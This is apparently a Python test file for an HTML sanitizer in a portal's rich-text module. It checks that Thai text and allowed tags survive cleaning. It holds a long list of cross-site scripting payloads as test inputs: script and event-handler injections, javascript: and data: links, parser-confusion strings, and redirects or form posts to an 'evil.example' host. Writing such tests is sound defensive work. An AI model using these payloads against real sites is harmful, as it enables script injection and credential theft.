"""What rich text may contain: hostile texts of every kind, and ordinary Thai ones."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from portal.richtext.domain import (
    SCHEMES,
    TAGS,
    clean_html,
    from_typed,
    is_too_long,
    plain_text,
    to_typed,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>กด</text></a>',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>กด</math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><mglyph><style><img src="</style><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<image src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>กด</a>",
    "<a href='JaVaScRiPt:alert(1)'>กด</a>",
    "<a href='java\tscript:alert(1)'>กด</a>",
    "<a href='java&#10;script:alert(1)'>กด</a>",
    "<a href='&#106;avascript:alert(1)'>กด</a>",
    "<a href='\x01javascript:alert(1)'>กด</a>",
    "<a href=' javascript:alert(1)'>กด</a>",
    "<a href='vbscript:msgbox(1)'>กด</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>กด</a>",
    "<a href='file:///etc/passwd'>กด</a>",
    "<a href='blob:https://portal/1'>กด</a>",
    "<a href=x onclick=alert(1) style='position:fixed;inset:0'>กด</a>",
    "<a href='https://a.example' target=_top ping=//evil rel=opener>กด</a>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>ก</p>",
    "<p class='actionbar' id='main' data-submit-on-change hx-get='/x'>ก</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=x.swf><embed src=x.swf></object>",
    "<form action=//evil.example><input name=password><button formaction=javascript:1>ส่ง</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<body onload=alert(1)>ก</body>",
    "<video src=x onerror=alert(1)><audio src=x><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>ก</summary></details>",
    "<marquee onstart=alert(1)>ก</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<p/onclick=alert(1)>ก",
    "<p title='ก' lang=en dir=rtl id=main>ก</p>",
    "<p onclick\n=\nalert(1)>ก</p>",
    "<<p>p onclick=alert(1)>ก</p>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><head><script>1</script></head><body>ก</body></html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p>\ud800ครึ่งคู่</p>",
    "<table><script>alert(1)</script><tr><td onclick=1>ก</table>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>ก",
    "<b><i><u><s><strike><del>ก",
    "<h1 onmouseover=alert(1)>ก</h1>",
    "</p></div></table><p>ก",
    "<a href='https://a.example/\"onmouseover=alert(1) x=\"'>กด</a>",
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src=x onerror=alert(1)>'>",
    "<div><p>ก</p></div>" * 50,
    "<blockquote>" * 3000 + "ก",
]


class Tree(HTMLParser):
    """What a text opens: its tags with their attributes."""

    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.tags.append(("!--", {}))

    def handle_decl(self, decl):
        self.tags.append(("!", {}))

    def handle_pi(self, data):
        self.tags.append(("?", {}))


def breaches(text):
    """Return everything in the text that is not on the list."""
    found = []
    for tag, attributes in Tree(text).tags:
        if tag not in TAGS:
            found.append(tag)
        names = {"href", "rel"} if tag == "a" else set()
        found += [f"{tag} {name}" for name in attributes if name not in names]
        address = attributes.get("href", "")
        scheme = address.split(":")[0].lower() if ":" in address else ""
        if scheme and scheme not in SCHEMES and "/" not in scheme:
            found.append(address)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_passes(text):
    cleaned = clean_html(text)

    assert breaches(cleaned) == []
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "text", ["<script>", "<p onclick=1>", "<a href='javascript:1'>", "<!-- x -->", "<svg>"]
)
def test_the_check_itself_finds_what_is_not_allowed(text):
    assert breaches(text)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("<script>alert(1)</script><p>ก</p>", "<p>ก</p>"),
        ("<style>p{}</style><iframe>ข</iframe><p>ก</p>", "<p>ก</p>"),
        ("<div><section>เหลือแต่คำ</section></div>", "เหลือแต่คำ"),
        ("&lt;script&gt;", "&lt;script&gt;"),
    ],
)
def test_of_what_is_not_allowed_only_words_stay(text, words):
    assert clean_html(text) == words


@pytest.mark.parametrize(
    "text",
    [
        "<p>น้ำท่วมทุ่งนา ปิดเรียน ๒ วัน</p>",
        "<h2>ก</h2><h3>ข</h3><h4>ค</h4>",
        "<p><strong>ก</strong><em>ข</em><u>ค</u><s>ง</s><sub>1</sub><sup>2</sup><br>จ</p>",
        "<ul><li>ก</li></ul><ol><li>ข</li></ol><blockquote><p>ค</p></blockquote><hr>",
        "<table><thead><tr><th>ก</th></tr></thead><tbody><tr><td>ข</td></tr></tbody></table>",
        "<p>ปู่ กี่ พี่ ที่ เก๋ง เปี๊ยก ญี่ปุ่น ฐานะ สิทธิ์ พระพุทธฯลฯ กำ</p>",
    ],
)
def test_what_is_allowed_stays_to_the_letter(text):
    assert clean_html(text) == text


@pytest.mark.parametrize("scheme", ["https://a.example/ก", "http://a", "mailto:a@b", "tel:074123"])
def test_a_link_stays_and_says_nothing_of_where_one_comes_from(scheme):
    cleaned = clean_html(f'<p><a href="{scheme}" target="_blank">กด</a></p>')

    assert Tree(cleaned).tags[1] == ("a", {"href": scheme, "rel": "noopener nofollow"})


def test_old_names_of_tags_become_ours():
    assert clean_html("<h1>ก</h1><p><b>ข</b> <i>ค</i></p>") == (
        "<h2>ก</h2><p><strong>ข</strong> <em>ค</em></p>"
    )


@pytest.mark.parametrize(
    "text", ["", " ", "<p></p>", "<p>&nbsp;</p>", "<p><br></p>\n<p> </p>", "<script>1</script>"]
)
def test_a_text_without_a_word_is_the_empty_text(text):
    assert clean_html(text) == ""


def test_empty_paragraphs_behind_the_text_are_dropped_and_those_inside_stay():
    assert clean_html("<p>ก</p><p>&nbsp;</p><p>ข</p><p>&nbsp;</p><p><br></p>") == (
        "<p>ก</p><p>&nbsp;</p><p>ข</p>"
    )


def test_thai_is_stored_in_one_spelling():
    assert clean_html("<p>นํ้า เเม่ ก\u200bข</p>") == "<p>น้ำ แม่ กข</p>"


PIECES = st.sampled_from(
    [*(f"<{tag}>" for tag in TAGS), *(f"</{tag}>" for tag in TAGS), *HOSTILE[:60]]
) | st.text(st.characters(codec="utf-8"), max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
@example("<p>\u0e4d&#x0e32;</p>")
@example("<table><p><table><a href=x><table><a href=y>")
def test_cleaning_twice_is_cleaning_once_and_nothing_gets_through(text):
    cleaned = clean_html(text)

    assert clean_html(cleaned) == cleaned
    assert breaches(cleaned) == []


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=60))
def test_plain_lines_come_back_as_they_were_typed(text):
    rich = from_typed(text)

    assert breaches(rich) == []
    assert from_typed(to_typed(rich)) == rich


def test_plain_lines_become_paragraphs_and_paragraphs_plain_lines():
    rich = from_typed("แรก\r\nบรรทัดสอง\r\n\r\nย่อหน้า 3 < 5 & 6")

    assert rich == "<p>แรก<br>บรรทัดสอง</p><p>ย่อหน้า 3 &lt; 5 &amp; 6</p>"
    assert to_typed(rich) == "แรก\nบรรทัดสอง\n\nย่อหน้า 3 < 5 & 6"


def test_a_text_with_a_list_is_shown_as_html_where_no_editor_is():
    rich = "<ul><li>ก</li></ul>"

    assert to_typed(rich) == rich
    assert from_typed(rich) == rich


def test_the_words_alone_have_a_line_for_each_block():
    text = (
        "<h2>หัวข้อ</h2><p>น้ำ<strong>ท่วม</strong><br>ทุ่ง&nbsp;นา</p><table><tr><td>1</td><td>2 &lt; 3"
    )

    assert plain_text(text) == "หัวข้อ\nน้ำท่วม\nทุ่ง นา\n1 2 < 3"


def test_a_text_of_more_than_forty_pages_is_too_long():
    assert is_too_long("ก" * 200_001)
    assert is_too_long("<p>" * 20_001)
    assert not is_too_long("<p>การเรียนรู้</p>" * 5_000)
